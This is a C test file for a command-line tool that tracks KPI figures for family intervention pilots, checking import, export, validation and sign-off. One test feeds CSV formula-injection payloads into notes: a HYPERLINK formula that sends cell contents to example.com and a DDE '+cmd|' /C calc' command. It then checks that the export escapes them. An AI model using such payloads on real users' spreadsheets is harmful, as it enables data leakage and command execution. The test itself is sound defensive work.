/* test-cli.c: the headless command line, run as a user would run it
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include <string.h>
#include <sys/stat.h>

#include <glib.h>
#include <glib/gstdio.h>

#include <sqlite3.h>

#include "pg-test-util.h"
#include "pm-test-common.h"

#define CANNOCK_ROW "Cannock Chase,Chadsmoor & Western Springs Community Family Intervention Service,"
#define WCFC_ROW CANNOCK_ROW "\"WCFC to work with 75 families not supported by any other agency, within 12 months\","
#define CESS_ROW CANNOCK_ROW "\"CESS to work with 50 families not supported by any other agency, within 12 months\","
#define COMMUNITY_ROW CANNOCK_ROW "Increase the number of families accessing community led early intervention,"

/* A folder of the test's own: tests/common's fixture. */
typedef PmTestFolder Fixture;

static void
test_help (Fixture       *fixture,
           gconstpointer  data)
{
  g_auto(PmTestRun) run = pm_test_cli_run (fixture->dir, "--help", NULL);

  g_assert_cmpint (run.status, ==, 0);
  for (const char *const *opt = (const char *const[]) { "--database", "--sample", "--import", "--export", "--list", NULL }; *opt; opt++)
    g_assert_nonnull (strstr (run.out, *opt));
}

/* The transcription in tests/reference, independent of the sample file. */
static GPtrArray *
load_reference (void)
{
  g_autofree char *path = g_build_filename (g_getenv ("PM_REFERENCE_DIR"), "appendix-a-kpis.tsv", NULL);
  g_autofree char *contents = pm_test_read_text (path);
  g_auto(GStrv) lines = g_strsplit (contents, "\n", -1);
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);

  for (guint i = 1; lines[i] != NULL; i++)
    if (lines[i][0] != '\0')
      g_ptr_array_add (rows, g_strsplit (lines[i], "\t", -1));

  return rows;
}

static GStrv
find_line (GStrv        lines,
           const char  *district,
           const char  *kpi_prefix)
{
  for (guint i = 0; lines[i] != NULL; i++)
    {
      g_auto(GStrv) fields = g_strsplit (lines[i], "\t", -1);

      if (g_strv_length (fields) == 10
          && g_str_equal (fields[0], district)
          && g_str_has_prefix (fields[2], kpi_prefix))
        return g_steal_pointer (&fields);
    }

  g_error ("no line for %s / %s", district, kpi_prefix);
  return NULL;
}

static void
test_sample_list (Fixture       *fixture,
                  gconstpointer  data)
{
  g_autoptr(GPtrArray) reference = load_reference ();
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) list = { 0 };
  g_auto(GStrv) lines = NULL;
  g_auto(GStrv) cannock = NULL;
  g_auto(GStrv) lichfield = NULL;
  g_auto(GStrv) stafford = NULL;
  guint n_lines;
  GStatBuf st;

  g_assert_cmpint (create.status, ==, 0);
  g_assert_cmpint (g_stat (fixture->path, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);

  list = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_assert_cmpint (list.status, ==, 0);
  g_assert_cmpstr (list.err, ==, "");

  lines = g_strsplit (list.out, "\n", -1);
  n_lines = g_strv_length (lines);
  g_assert_cmpstr (lines[n_lines - 1], ==, "");
  g_assert_cmpuint (n_lines - 1, ==, reference->len);

  /* Every headline KPI of Appendix A, in order, in its district, each line
   * with its ten fields. */
  for (guint i = 0; i < reference->len; i++)
    {
      GStrv row = g_ptr_array_index (reference, i);
      g_auto(GStrv) fields = g_strsplit (lines[i], "\t", -1);

      g_assert_cmpuint (g_strv_length (fields), ==, 10);
      g_assert_cmpstr (fields[0], ==, row[0]);
      g_assert_cmpstr (fields[1], ==, row[1]);
      g_assert_cmpstr (fields[2], ==, row[3]);

      /* A state is printed as that state, never as a zero. */
      if (g_ascii_strcasecmp (row[4], "To be confirmed") == 0)
        g_assert_cmpstr (fields[5], ==, "To be confirmed");
      if (g_str_has_prefix (row[4], "To be reported at quarter 4"))
        g_assert_cmpstr (fields[5], ==, "To be reported at Q4 2016/17");
      if (g_str_equal (row[4], "No baseline"))
        g_assert_true (g_str_has_prefix (fields[5], "No baseline"));
      if (g_str_equal (row[4], "Police and BC to provide"))
        g_assert_cmpstr (fields[5], ==, "Awaiting data from Police and BC");
    }

  cannock = find_line (lines, "Cannock Chase", "Reduce the number of referrals to LST");
  g_assert_cmpstr (cannock[3], ==, "count");
  g_assert_cmpstr (cannock[4], ==, "reduce");
  g_assert_cmpstr (cannock[5], ==, "212 in total (November 2016)");

  lichfield = find_line (lines, "Lichfield", "Increase Early Years reach (by Wards)");
  g_assert_cmpstr (lichfield[3], ==, "percentage");
  g_assert_true (g_str_has_prefix (lichfield[5], "44.8%"));
  g_assert_nonnull (strstr (lichfield[5], "October 2016"));

  stafford = find_line (lines, "Stafford", "Reduce the number of fixed term exclusions");
  g_assert_cmpstr (stafford[3], ==, "days");
  g_assert_true (g_str_has_prefix (stafford[5], "41 days"));
  g_assert_cmpstr (stafford[6], ==, "35 days");

  /* Cannock's November 2016 progress is the latest value. */
  {
    g_auto(GStrv) wcfc = find_line (lines, "Cannock Chase", "WCFC to work with 75 families");

    g_assert_cmpstr (wcfc[6], ==, "75");
    g_assert_cmpstr (wcfc[8], ==, "FY2016-Q3");
    g_assert_cmpstr (wcfc[9], ==, "5");
  }
}

static void
test_sample_refuses_existing (Fixture       *fixture,
                              gconstpointer  data)
{
  g_auto(PmTestRun) first = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) second = { 0 };
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;
  gsize before_len, after_len;

  g_assert_cmpint (first.status, ==, 0);
  g_file_get_contents (fixture->path, &before, &before_len, NULL);

  second = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_assert_cmpint (second.status, !=, 0);
  g_assert_nonnull (strstr (second.err, "pilot-monitor:"));
  g_assert_nonnull (strstr (second.err, fixture->path));

  g_file_get_contents (fixture->path, &after, &after_len, NULL);
  g_assert_cmpmem (before, before_len, after, after_len);
}

static void
test_round_trip (Fixture       *fixture,
                 gconstpointer  data)
{
  g_autofree char *exported = g_build_filename (fixture->dir, "exported.json", NULL);
  g_autofree char *copy_db = g_build_filename (fixture->dir, "copy.db", NULL);
  g_autofree char *again = g_build_filename (fixture->dir, "again.json", NULL);
  g_autofree char *sample = pm_test_read_text (g_getenv ("PM_SAMPLE_PROGRAMME"));
  g_autofree char *first = NULL;
  g_autofree char *second = NULL;
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", "--export", exported, NULL);
  g_auto(PmTestRun) import = { 0 };
  g_auto(PmTestRun) list_a = { 0 };
  g_auto(PmTestRun) list_b = { 0 };
  GStatBuf st;

  g_assert_cmpint (create.status, ==, 0);
  g_assert_cmpint (g_stat (exported, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);

  import = pm_test_cli_run (fixture->dir, "--database", copy_db, "--import", exported, "--export", again, NULL);
  g_assert_cmpint (import.status, ==, 0);

  /* Sample file -> database -> file -> database -> file loses nothing. */
  first = pm_test_read_text (exported);
  second = pm_test_read_text (again);
  g_assert_cmpstr (first, ==, sample);
  g_assert_cmpstr (second, ==, first);

  list_a = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  list_b = pm_test_cli_run (fixture->dir, "--database", copy_db, "--list", NULL);
  g_assert_cmpstr (list_a.out, ==, list_b.out);
}

static void
test_missing_database (Fixture       *fixture,
                       gconstpointer  data)
{
  g_auto(PmTestRun) run = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);

  g_assert_cmpint (run.status, ==, 1);
  g_assert_nonnull (strstr (run.err, "does not exist"));
  g_assert_cmpstr (run.out, ==, "");
  g_assert_false (g_file_test (fixture->path, G_FILE_TEST_EXISTS));
}

static void
test_not_a_database (Fixture       *fixture,
                     gconstpointer  data)
{
  const char *junk = "Minutes of the Select Committee, 16 January 2017\n";
  g_autofree char *after = NULL;
  g_auto(PmTestRun) run = { 0 };

  g_assert_true (g_file_set_contents (fixture->path, junk, -1, NULL));
  run = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);

  g_assert_cmpint (run.status, ==, 1);
  g_assert_nonnull (strstr (run.err, fixture->path));
  g_assert_cmpstr (run.out, ==, "");
  after = pm_test_read_text (fixture->path);
  g_assert_cmpstr (after, ==, junk);
}

static void
test_import_malformed (Fixture       *fixture,
                       gconstpointer  data)
{
  g_autofree char *bad = g_build_filename (fixture->dir, "bad.json", NULL);
  g_auto(PmTestRun) run = { 0 };

  g_assert_true (g_file_set_contents (bad, "{ \"format\": \"pilot-monitor-programme\", ", -1, NULL));
  run = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import", bad, NULL);

  g_assert_cmpint (run.status, ==, 1);
  g_assert_nonnull (strstr (run.err, "bad.json"));
  g_assert_false (g_file_test (fixture->path, G_FILE_TEST_EXISTS));
}

static void
test_import_invalid_value (Fixture       *fixture,
                           gconstpointer  data)
{
  g_autofree char *sample = pm_test_read_text (g_getenv ("PM_SAMPLE_PROGRAMME"));
  g_autofree char *bad = g_build_filename (fixture->dir, "bad.json", NULL);
  g_autoptr(GString) edited = g_string_new (sample);
  g_auto(PmTestRun) run = { 0 };

  /* Lichfield's 44.8% becomes 144.8%: a percentage out of range. */
  g_assert_cmpuint (g_string_replace (edited, "\"value\": 44.8", "\"value\": 144.8", 1), ==, 1);
  g_assert_true (g_file_set_contents (bad, edited->str, -1, NULL));
  run = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import", bad, NULL);

  g_assert_cmpint (run.status, ==, 1);
  g_assert_nonnull (strstr (run.err, "144.8"));
  g_assert_false (g_file_test (fixture->path, G_FILE_TEST_EXISTS));
}

/* Tamworth's fixed exclusions given as a total with its schools' figures,
 * the total one more than their sum: refused with both numbers, and no
 * database made. The same schools with no total import with their sum. */
static void
test_import_site_total (Fixture       *fixture,
                        gconstpointer  data)
{
  g_autofree char *sample = pm_test_read_text (g_getenv ("PM_SAMPLE_PROGRAMME"));
  g_autofree char *bad = g_build_filename (fixture->dir, "bad.json", NULL);
  g_autofree char *good = g_build_filename (fixture->dir, "good.json", NULL);
  g_autoptr(GString) edited = g_string_new (sample);
  g_auto(PmTestRun) run = { 0 };
  g_auto(PmTestRun) list = { 0 };
  g_auto(GStrv) lines = NULL;
  g_auto(GStrv) fixed = NULL;

  g_assert_cmpuint (g_string_replace (edited, "\"value\": 29\n", "\"value\": 1000\n", 1), ==, 1);
  g_assert_cmpuint (g_string_replace (edited, "\"value\": 110\n", "\"value\": 3592\n", 1), ==, 1);
  g_assert_cmpuint (g_string_replace (edited, "\"value\": 139,", "\"value\": 4593,", 1), ==, 1);
  g_assert_true (g_file_set_contents (bad, edited->str, -1, NULL));
  run = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import", bad, NULL);

  g_assert_cmpint (run.status, ==, 1);
  g_assert_nonnull (strstr (run.err, "bad.json"));
  g_assert_nonnull (strstr (run.err, "total 4,593 differs from the sum of its sites, 4,592"));
  g_assert_false (g_file_test (fixture->path, G_FILE_TEST_EXISTS));

  /* Without the total: the sum is the baseline. */
  g_assert_cmpuint (g_string_replace (edited, "\"value\": 4593,", "", 1), ==, 1);
  g_assert_true (g_file_set_contents (good, edited->str, -1, NULL));
  pm_test_run_clear (&run);
  run = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import", good, NULL);
  g_assert_cmpint (run.status, ==, 0);
  list = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  lines = g_strsplit (list.out, "\n", -1);
  fixed = find_line (lines, "Tamworth", "Fixed exclusion rates for Rawlett & TEC");
  g_assert_cmpstr (fixed[5], ==, "4,592 (1,000 Rawlett and 3,592 TEC) school data 2014-15");
}

static void
test_usage_errors (Fixture       *fixture,
                   gconstpointer  data)
{
  g_autofree char *json = g_build_filename (fixture->dir, "x.json", NULL);
  g_auto(PmTestRun) both = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", "--import", json, NULL);
  g_auto(PmTestRun) unknown = pm_test_cli_run (fixture->dir, "--no-such-option", NULL);

  g_assert_cmpint (both.status, ==, 2);
  g_assert_false (g_file_test (fixture->path, G_FILE_TEST_EXISTS));
  g_assert_cmpint (unknown.status, !=, 0);
  g_assert_nonnull (strstr (unknown.err, "no-such-option"));
}

static void
test_export_unwritable (Fixture       *fixture,
                        gconstpointer  data)
{
  g_autofree char *out = g_build_filename (fixture->dir, "no-such-folder", "out.json", NULL);
  g_auto(PmTestRun) run = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", "--export", out, NULL);

  g_assert_cmpint (run.status, ==, 1);
  g_assert_nonnull (strstr (run.err, "out.json"));
  g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
}

/* A refused row stops the whole file unless --accept-valid; what is saved
 * shows in --list, and a file with only refusals changes nothing. */
static void
test_import_csv (Fixture       *fixture,
                 gconstpointer  data)
{
  g_autofree char *csv = g_build_filename (fixture->dir, "q4 values.csv", NULL);
  g_autoptr(GError) error = NULL;
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) before = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_auto(PmTestRun) refused = { 0, };
  g_auto(PmTestRun) unchanged = { 0, };
  g_auto(PmTestRun) accepted = { 0, };
  g_auto(PmTestRun) after = { 0, };
  g_auto(PmTestRun) usage = { 0, };

  g_assert_cmpint (create.status, ==, 0);
  g_file_set_contents (csv,
                       "district,pilot,kpi,period,value,note\r\n"
                       "Cannock Chase,Chadsmoor & Western Springs Community Family Intervention Service,"
                       "\"WCFC to work with 75 families not supported by any other agency, within 12 months\","
                       "FY2016-Q4,9,\r\n"
                       "Tamworth,No such pilot,x,FY2016-Q4,1,\r\n", -1, &error);
  g_assert_no_error (error);

  refused = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, NULL);
  g_assert_cmpint (refused.status, ==, 1);
  g_assert_nonnull (strstr (refused.err, "Line 3: Tamworth has no pilot called “No such pilot”"));
  g_assert_nonnull (strstr (refused.err, "nothing was saved"));
  unchanged = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_assert_cmpstr (unchanged.out, ==, before.out);

  accepted = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, "--accept-valid", NULL);
  g_assert_cmpint (accepted.status, ==, 0);
  g_assert_nonnull (strstr (accepted.out, "Saved 1 value (1 new, 0 changed); 0 unchanged, 1 refused."));
  after = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_assert_nonnull (strstr (after.out, "within 12 months\tcount\tincrease\t0 (October 2016)\t75\t31 October 2017\tFY2016-Q4\t9\n"));

  usage = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--accept-valid", NULL);
  g_assert_cmpint (usage.status, ==, 2);
}

/* A file whose every row is refused saves nothing, and says so with a
 * failure, --accept-valid or not. */
static void
test_import_csv_all_refused (Fixture       *fixture,
                             gconstpointer  data)
{
  g_autofree char *csv = g_build_filename (fixture->dir, "refused.csv", NULL);
  g_autoptr(GError) error = NULL;
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) before = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_auto(PmTestRun) accepted = { 0, };
  g_auto(PmTestRun) plain = { 0, };
  g_auto(PmTestRun) after = { 0, };

  g_assert_cmpint (create.status, ==, 0);
  g_file_set_contents (csv,
                       "district,pilot,kpi,period,value,note\r\n"
                       "Tamworth,No such pilot,x,FY2016-Q4,1,\r\n"
                       "Nowhere,Some pilot,y,FY2016-Q4,2,\r\n", -1, &error);
  g_assert_no_error (error);

  accepted = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, "--accept-valid", NULL);
  g_assert_cmpint (accepted.status, ==, 1);
  g_assert_cmpstr (accepted.out, ==, "");
  g_assert_nonnull (strstr (accepted.err, "Line 2: Tamworth has no pilot called “No such pilot”"));
  g_assert_nonnull (strstr (accepted.err, "refused.csv: 2 rows refused and no valid row: nothing was saved.\n"));

  plain = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, NULL);
  g_assert_cmpint (plain.status, ==, 1);
  g_assert_nonnull (strstr (plain.err, "2 rows refused and no valid row: nothing was saved."));
  g_assert_null (strstr (plain.err, "--accept-valid"));

  after = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_assert_cmpstr (after.out, ==, before.out);
}

/* A KPI's quarter given twice: the second row is refused, and the words
 * say so; the first is saved only when the valid rows are. */
static void
test_import_csv_repeated_row (Fixture       *fixture,
                              gconstpointer  data)
{
  g_autofree char *csv = g_build_filename (fixture->dir, "twice.csv", NULL);
  g_autoptr(GError) error = NULL;
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) before = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_auto(PmTestRun) refused = { 0, };
  g_auto(PmTestRun) unchanged = { 0, };
  g_auto(PmTestRun) accepted = { 0, };
  g_auto(PmTestRun) after = { 0, };

  g_assert_cmpint (create.status, ==, 0);
  g_file_set_contents (csv,
                       "district,pilot,kpi,period,value,note\r\n"
                       WCFC_ROW "FY2016-Q4,9,\r\n"
                       WCFC_ROW "FY2016-Q4,10,\r\n", -1, &error);
  g_assert_no_error (error);

  refused = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, NULL);
  g_assert_cmpint (refused.status, ==, 1);
  g_assert_nonnull (strstr (refused.err, "Line 3: line 2 already gives FY2016-Q4 for this KPI, and a "
                                         "period may be given only once: this row is refused.\n"));
  g_assert_null (strstr (refused.err, "only the first is used"));
  g_assert_nonnull (strstr (refused.err, "1 row refused: nothing was saved."));
  unchanged = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_assert_cmpstr (unchanged.out, ==, before.out);

  accepted = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, "--accept-valid", NULL);
  g_assert_cmpint (accepted.status, ==, 0);
  g_assert_cmpstr (accepted.out, ==, "Saved 1 value (1 new, 0 changed); 0 unchanged, 1 refused.\n");
  after = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_assert_nonnull (strstr (after.out, "within 12 months\tcount\tincrease\t0 (October 2016)\t75\t31 October 2017\tFY2016-Q4\t9\n"));
}

/* Notes a spreadsheet would run as formulas reach the CSV export with an
 * apostrophe before them, numbers as they are; the export read back is
 * the same notes, and exported again the same file. */
static void
test_export_csv_formulas (Fixture       *fixture,
                          gconstpointer  data)
{
  g_autofree char *csv = g_build_filename (fixture->dir, "notes.csv", NULL);
  g_autofree char *out = g_build_filename (fixture->dir, "kpis.csv", NULL);
  g_autofree char *again = g_build_filename (fixture->dir, "kpis again.csv", NULL);
  g_autofree char *exported = NULL;
  g_autofree char *exported_again = NULL;
  g_autoptr(GError) error = NULL;
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) notes = { 0, };
  g_auto(PmTestRun) export = { 0, };
  g_auto(PmTestRun) reimport = { 0, };
  g_auto(PmTestRun) export_again = { 0, };

  g_assert_cmpint (create.status, ==, 0);
  /* The last note is marked in the file as a spreadsheet marks text: it
   * is stored with one apostrophe. */
  g_file_set_contents (csv,
                       "district,pilot,kpi,period,value,note\r\n"
                       WCFC_ROW "FY2016-Q4,9,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Click\"\")\"\r\n"
                       CESS_ROW "FY2016-Q4,4,+cmd|' /C calc'!A0\r\n"
                       COMMUNITY_ROW "FY2016-Q4,7,@SUM(1+1)\r\n"
                       WCFC_ROW "FY2016-Q3,5,''=Marked by hand\r\n", -1, &error);
  g_assert_no_error (error);
  notes = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, NULL);
  g_assert_cmpint (notes.status, ==, 0);

  export = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--export-csv", "--period", "FY2016-Q4",
                            "--output", out, NULL);
  g_assert_cmpint (export.status, ==, 0);
  exported = pm_test_read_text (out);
  g_test_message ("%s", exported);
  g_assert_nonnull (strstr (exported, ",FY2016-Q4,9,,,\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Click\"\")\","));
  g_assert_nonnull (strstr (exported, ",FY2016-Q4,4,,,'+cmd|' /C calc'!A0,"));
  g_assert_nonnull (strstr (exported, ",FY2016-Q4,7,,,'@SUM(1+1),"));
  g_assert_null (strstr (exported, ",=HYPERLINK"));
  g_assert_null (strstr (exported, ",\"=HYPERLINK"));

  /* Read back: every note the same, so nothing to save. */
  reimport = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", out, NULL);
  g_assert_cmpint (reimport.status, ==, 0);
  g_assert_cmpstr (reimport.out, ==, "Saved 0 values (0 new, 0 changed); 3 unchanged, 0 refused.\n");

  export_again = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--export-csv", "--period", "FY2016-Q3",
                                  "--output", again, NULL);
  g_assert_cmpint (export_again.status, ==, 0);
  exported_again = pm_test_read_text (again);
  g_assert_nonnull (strstr (exported_again, ",FY2016-Q3,5,,,''=Marked by hand,"));
  g_clear_pointer (&reimport.out, g_free);
  g_clear_pointer (&reimport.err, g_free);
  reimport = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", again, NULL);
  g_assert_cmpint (reimport.status, ==, 0);
  g_assert_nonnull (strstr (reimport.out, "Saved 0 values (0 new, 0 changed); "));
}

/* The office accepts Cannock Chase's Q3 2016/17, written as the window
 * would write it. */
static void
accept_cannock_q3 (const char *location)
{
  static const char sql[] =
    "INSERT INTO signoff (district_id, period, state, author, at) "
    "  SELECT id, 'FY2016-Q3', 'submitted', 'Alex Lead', '2017-01-09T10:00:00Z' FROM district "
    "  WHERE name = 'Cannock Chase';"
    "INSERT INTO signoff (district_id, period, state, author, at) "
    "  SELECT id, 'FY2016-Q3', 'accepted', 'Programme Office', '2017-01-10T10:00:00Z' FROM district "
    "  WHERE name = 'Cannock Chase';";

  if (g_str_has_prefix (location, "postgresql:"))
    {
      g_autoptr(PGconn) conn = PQconnectdb (location);
      g_autoptr(PGresult) result = NULL;

      g_assert_cmpint (PQstatus (conn), ==, CONNECTION_OK);
      result = PQexec (conn, sql);
      g_assert_cmpint (PQresultStatus (result), ==, PGRES_COMMAND_OK);
    }
  else
    {
      sqlite3 *db = NULL;

      g_assert_cmpint (sqlite3_open_v2 (location, &db, SQLITE_OPEN_READWRITE, NULL), ==, SQLITE_OK);
      g_assert_cmpint (sqlite3_exec (db, sql, NULL, NULL, NULL), ==, SQLITE_OK);
      sqlite3_close (db);
    }
}

/* A CSV file with a value for the accepted quarter is refused, saying
 * which quarter of which district, and nothing is saved. */
static void
assert_accepted_refused (Fixture    *fixture,
                         const char *location)
{
  g_autofree char *csv = g_build_filename (fixture->dir, "q3 values.csv", NULL);
  g_autoptr(GError) error = NULL;
  g_auto(PmTestRun) before = { 0, };
  g_auto(PmTestRun) refused = { 0, };
  g_auto(PmTestRun) after = { 0, };

  accept_cannock_q3 (location);
  g_file_set_contents (csv,
                       "district,pilot,kpi,period,value,note\r\n"
                       "Cannock Chase,Chadsmoor & Western Springs Community Family Intervention Service,"
                       "\"WCFC to work with 75 families not supported by any other agency, within 12 months\","
                       "FY2016-Q3,9,\r\n", -1, &error);
  g_assert_no_error (error);

  before = pm_test_cli_run (fixture->dir, "--database", location, "--list", NULL);
  g_assert_cmpint (before.status, ==, 0);
  refused = pm_test_cli_run (fixture->dir, "--database", location, "--import-csv", csv, NULL);
  g_assert_cmpint (refused.status, ==, 1);
  g_assert_nonnull (strstr (refused.err, "Q3 2016/17 of Cannock Chase has been accepted; "
                                         "reopen it to change it."));
  after = pm_test_cli_run (fixture->dir, "--database", location, "--list", NULL);
  g_assert_cmpstr (after.out, ==, before.out);
}

static void
test_accepted_quarter (Fixture       *fixture,
                       gconstpointer  data)
{
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) there = { 0, };
  g_autoptr(GError) error = NULL;
  g_autofree char *uri = NULL;

  g_assert_cmpint (create.status, ==, 0);

  if (pg_test_available ())
    {
      uri = pg_test_create_database ("pm_cli_accepted", &error);
      g_assert_no_error (error);
      there = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--copy-to", uri, NULL);
      g_assert_cmpint (there.status, ==, 0);
      assert_accepted_refused (fixture, uri);
      g_assert_true (pg_test_drop_database (uri, &error));
      g_assert_no_error (error);
    }
  else
    g_test_message ("no PostgreSQL test server (PM_TEST_PG_URI): a file only");

  assert_accepted_refused (fixture, fixture->path);
}

/* Numbers in a CSV file, read by the real binary: "0,500" is refused as
 * ambiguous, a count of 5.000000000000001 is 5, and 5.5 is refused as
 * typed. */
static void
test_import_csv_numbers (Fixture       *fixture,
                         gconstpointer  data)
{
  g_autofree char *csv = g_build_filename (fixture->dir, "numbers.csv", NULL);
  g_autoptr(GError) error = NULL;
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) ambiguous = { 0, };
  g_auto(PmTestRun) fraction = { 0, };
  g_auto(PmTestRun) nearly = { 0, };
  g_auto(PmTestRun) after = { 0, };
#define ROW(value) \
  "Cannock Chase,Chadsmoor & Western Springs Community Family Intervention Service," \
  "\"WCFC to work with 75 families not supported by any other agency, within 12 months\"," \
  "FY2016-Q4," value ",\r\n"

  g_assert_cmpint (create.status, ==, 0);

  g_file_set_contents (csv, "district,pilot,kpi,period,value,note\r\n" ROW ("\"0,500\""), -1, &error);
  g_assert_no_error (error);
  ambiguous = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, NULL);
  g_assert_cmpint (ambiguous.status, ==, 1);
  g_assert_nonnull (strstr (ambiguous.err, "Line 2: WCFC to work with 75 families not supported by any "
                                           "other agency, within 12 months: “0,500” is ambiguous: a comma "
                                           "may only separate thousands"));

  g_file_set_contents (csv, "district,pilot,kpi,period,value,note\r\n" ROW ("5.5"), -1, &error);
  g_assert_no_error (error);
  fraction = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, NULL);
  g_assert_cmpint (fraction.status, ==, 1);
  g_assert_nonnull (strstr (fraction.err, "A count must be a whole number, not 5.5."));

  g_file_set_contents (csv, "district,pilot,kpi,period,value,note\r\n" ROW ("5.000000000000001"), -1, &error);
  g_assert_no_error (error);
  nearly = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--import-csv", csv, NULL);
  g_assert_cmpint (nearly.status, ==, 0);
  after = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  g_assert_nonnull (strstr (after.out, "within 12 months\tcount\tincrease\t0 (October 2016)\t75\t"
                                       "31 October 2017\tFY2016-Q4\t5\n"));
#undef ROW
}

/* A lead's database sends a return; the office's merges it, and a
 * conflict with a value the office typed fails unless told otherwise. */
static void
test_returns (Fixture       *fixture,
              gconstpointer  data)
{
  g_autofree char *office = g_build_filename (fixture->dir, "office.db", NULL);
  g_autofree char *ret = g_build_filename (fixture->dir, "cannock q3.json", NULL);
  g_auto(PmTestRun) lead_create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) office_create = pm_test_cli_run (fixture->dir, "--database", office, "--sample", NULL);
  g_auto(PmTestRun) sent = { 0, };
  g_auto(PmTestRun) merged = { 0, };
  g_auto(PmTestRun) all = { 0, };
  g_auto(PmTestRun) bad_policy = { 0, };
  g_autofree char *fingerprint = NULL;

  g_assert_cmpint (lead_create.status, ==, 0);
  g_assert_cmpint (office_create.status, ==, 0);

  sent = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--export-return", "Cannock Chase",
                          "--period", "FY2016-Q3", "--author", "Alex Lead", "--output", ret, NULL);
  g_assert_cmpint (sent.status, ==, 0);
  g_assert_true (g_file_test (ret, G_FILE_TEST_IS_REGULAR));
  /* The lead's key, made on first use, as the lead reads it out. */
  fingerprint = pm_test_run_fingerprint (&sent);

  /* The office holds the same figures: nothing to merge, and it says so. */
  merged = pm_test_cli_run (fixture->dir, "--database", office, "--import-return", ret, "--on-conflict", "keep",
                            "--trust-key", fingerprint, NULL);
  g_assert_cmpint (merged.status, ==, 0);
  g_assert_nonnull (strstr (merged.out, "Cannock Chase, Q3 2016/17 from Alex Lead: 0 new, 0 changed, "
                                        "0 in conflict; 0 saved."));

  all = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--export-return", "all",
                         "--period", "FY2016-Q3", "--output", ret, NULL);
  g_assert_cmpint (all.status, ==, 2);
  bad_policy = pm_test_cli_run (fixture->dir, "--database", office, "--import-return", ret, "--on-conflict", "maybe", NULL);
  g_assert_cmpint (bad_policy.status, ==, 2);
}

/* No file but @name in @dir: a copy leaves no hidden file behind. */
static void
assert_only_file (const char *dir,
                  const char *name)
{
  g_autoptr(GDir) handle = g_dir_open (dir, 0, NULL);
  const char *found;

  g_assert_nonnull (handle);
  while ((found = g_dir_read_name (handle)) != NULL)
    {
      if (!g_str_equal (found, name) && !g_str_equal (found, "xdg-data") &&
          !g_str_has_prefix (found, "pilots.db"))
        g_error ("unexpected %s in %s", found, dir);
    }
}

static void
test_copy_to_file (Fixture       *fixture,
                   gconstpointer  data)
{
  g_autofree char *copied = g_build_filename (fixture->dir, "copy.db", NULL);
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) run = { 0, };
